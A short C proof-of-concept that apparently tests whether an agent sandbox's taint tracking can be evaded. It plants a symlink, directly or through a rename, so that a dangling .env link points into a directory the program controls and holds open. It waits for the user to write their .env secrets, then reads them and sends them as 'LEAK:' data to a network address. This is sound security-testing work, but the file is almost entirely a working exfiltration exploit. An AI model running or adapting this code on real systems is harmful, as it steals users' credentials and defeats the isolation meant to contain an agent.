// dotenv IP MODE: the workspace has .env -> config/dev.env from before the session
// (dangling: no config/). Sends PRE; makes mydir/dev.env and holds it open; then
//   rename: symlink("mydir", "stagelink"), rename("stagelink", "config")
//   plain:  symlink("mydir", "config") (control: decided, tainted)
// says ready, waits (the user writes .env), reads the held descriptor and sends it.
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <sys/stat.h>
#include "../../isolated-files-r4/send.c"
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1],*mode=argv[2]; int r;
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  mkdir("mydir",0755); int fd=open("mydir/dev.env",O_RDWR|O_CREAT,0600); if(fd<0){perror("open");return 1;} write(fd,"agent-placeholder\n",18);
  if(!strcmp(mode,"rename")){ r=symlink("mydir","stagelink"); printf("symlink(mydir, stagelink): %d\n",r);
    r=rename("stagelink","config"); printf("rename(stagelink, config): %d %s\n",r,r?strerror(errno):""); }
  else { r=symlink("mydir","config"); printf("symlink(mydir, config): %d %s\n",r,r?strerror(errno):""); }
  close(open("ready",O_CREAT|O_WRONLY,0644)); sleep(2);
  char buf[256]={0}; ssize_t n=pread(fd,buf,255,0); printf("HELD mydir/dev.env READS %zd bytes: %.60s\n",n,buf);
  char m[300]; int l=snprintf(m,sizeof m,"LEAK:%.60s",buf); printf("POST send: %d\n",send_buf(ip,m,l)); return 0; }
